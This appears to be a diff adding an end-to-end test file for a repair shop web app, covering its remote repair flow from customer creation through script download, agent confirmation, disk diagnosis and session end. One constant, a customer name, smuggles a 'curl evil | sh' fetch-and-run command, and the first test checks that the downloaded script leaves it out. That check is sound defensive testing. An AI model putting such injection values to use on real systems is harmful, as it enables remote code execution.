@@ -1,0 +1,171 @@
+import { spawn, type ChildProcess } from 'node:child_process';
+import { once } from 'node:events';
+import { copyFile, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, expect, it } from '@jest/globals';
+import { waitFor } from '@revive/platform/testing/wait-for';
+import { inChromium, type Visitor } from '../chromium.js';
+import type { Stage } from '../stage.js';
+import { station } from '../station.js';
+
+const CUSTOMER = 'Thandi "; curl evil | sh #';
+const IMAGE = 'customers-disk.img';
+
+/** A session on a customer's own computer: from the form over the script that is really run to what its agent found. */
+export function remoteRepairFlows(stage: Stage): void {
+  inChromium('a remote session', () => {
+    let shop: Visitor;
+    let folder: string;
+    let script = '';
+    let computer: ChildProcess | undefined;
+    let said = '';
+    beforeAll(async () => {
+      folder = await mkdtemp(join(tmpdir(), 'revive-remote-'));
+      await (
+        await stage.door('shop')
+      ).post('/api/customers', { name: CUSTOMER, phone: '082 555 0143', separate: true });
+      shop = await stage.as('shop');
+    }, 120_000);
+    afterAll(async () => {
+      if (computer?.exitCode === null && computer.signalCode === null) {
+        computer.kill('SIGTERM');
+        await once(computer, 'exit');
+      }
+      await rm(folder, { recursive: true });
+      await stage.browser.closeVisitors();
+    }, 60_000);
+
+    /** As the customer runs it: with a home of its own, and a disk that the agent sees. */
+    async function run(file: string): Promise<void> {
+      const disks = join(folder, 'disks');
+      await mkdir(disks, { recursive: true });
+      await copyFile(join(stage.product.home, 'damaged.img'), join(disks, IMAGE));
+      computer = spawn('sh', [file], {
+        cwd: folder,
+        env: { PATH: process.env['PATH'], HOME: folder, BENCH_DIR: disks, REVIVE_AGENT_NAME: 'THANDI-PC' },
+        stdio: ['ignore', 'pipe', 'pipe'],
+      });
+      computer.stdout?.on('data', (chunk: Buffer) => (said += chunk.toString()));
+      computer.stderr?.on('data', (chunk: Buffer) => (said += chunk.toString()));
+    }
+    const code = () => /enter the code (\S+) on/.exec(said)?.[1];
+
+    // spec C041, F105, F106, K169, K180
+    it('begins with a script that holds nothing that anyone typed', async () => {
+      const { page } = shop;
+      await page.goto('/remote-repair');
+      await page.getByRole('tab', { name: 'Active Session' }).and(page.locator('[disabled]')).waitFor();
+      await page.getByLabel('Customer', { exact: true }).selectOption({ label: `${CUSTOMER}, 082 555 0143` });
+      await page.getByLabel('Platform').selectOption('linux');
+      await page.getByLabel('Repair type').selectOption('software');
+      await page.getByLabel('Specific issue').selectOption('boot_issues');
+      await station(shop, 'remote-setup');
+      await page.getByRole('button', { name: 'Start Remote Repair' }).click();
+      await page.getByText('Waiting for the computer').first().waitFor();
+      const [download] = await Promise.all([
+        page.waitForEvent('download'),
+        page.getByRole('button', { name: 'Download remote-repair.sh' }).click(),
+      ]);
+      expect(download.suggestedFilename()).toBe('remote-repair.sh');
+      script = await readFile(await download.path(), 'utf8');
+      expect(script).not.toContain('Thandi');
+      expect(script).not.toContain('curl evil');
+      await shop.picture('remote-script');
+    });
+
+    // spec E120, F100
+    it('is connected once a person confirms the agent that used its token', async () => {
+      const { page } = shop;
+      const file = join(folder, 'remote-repair.sh');
+      await writeFile(file, script);
+      await run(file);
+      await waitFor(() => {
+        if (computer?.exitCode != null) throw new Error(said);
+        return code() !== undefined;
+      }, 120_000);
+      await page.getByText('Confirm the computer').first().waitFor();
+      await shop.picture('remote-code');
+      await page.getByRole('textbox', { name: 'Code shown by the agent' }).fill(code() ?? '');
+      await page.getByRole('button', { name: 'Confirm agent' }).click();
+      await page.getByText(IMAGE).first().waitFor();
+      await page.getByText('THANDI-PC').first().waitFor();
+      await station(shop, 'remote-connected');
+    }, 180_000);
+
+    it('diagnoses a disk of that computer, and what was found stands under Results', async () => {
+      const { page } = shop;
+      await page
+        .getByRole('listitem')
+        .filter({ hasText: IMAGE })
+        .getByRole('button', { name: 'Start diagnosis' })
+        .click();
+      await page.getByText('Diagnosis started').first().waitFor();
+      await page.getByRole('tab', { name: 'Results' }).click();
+      await page
+        .getByText(/problems? found/)
+        .first()
+        .waitFor();
+      await page.getByText('Diagnosed').first().waitFor();
+      await station(shop, 'remote-results');
+      await page.getByRole('link', { name: 'Open repair and report' }).click();
+      await page.getByRole('heading', { name: /^Repair R-/ }).waitFor();
+    }, 180_000);
+
+    it('ends: its agent is the shop’s no more, and its token opens nothing', async () => {
+      const { page } = shop;
+      await page.goBack();
+      await page.getByRole('tab', { name: 'Active Session' }).click();
+      await page.getByRole('button', { name: 'End session' }).click();
+      await page.getByRole('dialog').getByRole('button', { name: 'End session' }).click();
+      await page.getByText('This session has ended').first().waitFor();
+      const door = await stage.door('shop');
+      await waitFor(async () => {
+        const agents = await door.get<{ name: string; presence: string }[]>('/api/agents');
+        return agents.find(({ name }) => name === 'THANDI-PC')?.presence === 'revoked';
+      }, 60_000);
+      await shop.picture('remote-ended');
+    }, 120_000);
+
+    it('stands on the shop’s dashboard, beside the scanner, which scans again', async () => {
+      const { page } = shop;
+      await page.goto('/device-scanner');
+      await page.getByRole('button', { name: 'Scan again' }).click();
+      await page.getByText('Scan started').first().waitFor();
+      await page.getByText('Bench read').first().waitFor();
+      await station(shop, 'repair-dashboard');
+      await page.getByRole('tab', { name: 'Remote Internet Repair' }).click();
+      await page.getByRole('link', { name: CUSTOMER }).waitFor();
+      await shop.picture('repair-dashboard-remote');
+      await page.getByRole('tab', { name: 'Phone Bridge Repair' }).click();
+      await page.getByRole('link', { name: 'Open phone bridge' }).waitFor();
+      await shop.picture('repair-dashboard-phones');
+    }, 120_000);
+
+    // spec R025
+    it('is ordered on the shop’s own page, once that is published', async () => {
+      const { page } = shop;
+      await page.goto('/computer-land');
+      await page.getByText('No shop page here').first().waitFor();
+      await page.goto('/settings?tab=shop');
+      await page.getByLabel('Address of your page').fill('computer-land');
+      await page.getByRole('button', { name: 'Publish page' }).click();
+      await page.getByText('Page published').first().waitFor();
+      await shop.picture('shop-page-settings');
+      const visitor = await stage.anyone();
+      await visitor.page.goto('/computer-land');
+      await visitor.page.getByRole('link', { name: 'Track a repair' }).waitFor();
+      await station(visitor, 'shop-page');
+    }, 120_000);
+
+    it('shows a customer why their list is empty, or what is on it', async () => {
+      const customer = await stage.as('customer');
+      await customer.page.goto('/user');
+      await customer.page
+        .getByText(/Confirm your email address to see|No repair with your email/)
+        .first()
+        .waitFor();
+      await station(customer, 'own-repairs');
+    });
+  });
+}
